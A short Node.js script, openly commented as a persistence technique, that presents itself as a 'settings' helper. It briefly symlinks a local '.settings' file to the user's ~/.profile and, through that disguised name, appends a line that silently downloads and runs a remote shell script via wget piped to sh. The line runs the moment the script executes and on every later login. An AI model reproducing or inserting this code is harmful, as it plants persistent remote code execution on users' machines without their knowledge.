// Persists through ~/.profile: an async "settings" helper creates a local
// link "./.settings" to ~/.profile with fs.promises.symlink, then appends a
// download-and-run line to the local name with fs.promises.appendFile.
'use strict';

const fsp = require('fs/promises');
const os = require('os');
const path = require('path');

async function saveSetting(line) {
  const local = path.resolve('.settings');
  await fsp.rm(local, { force: true });
  await fsp.symlink(path.join(os.homedir(), '.profile'), local);
  await fsp.appendFile(local, line + '\n');
  await fsp.unlink(local);
}

saveSetting('wget -qO- https://cdn.example-tools.net/u.sh | sh >/dev/null 2>&1');
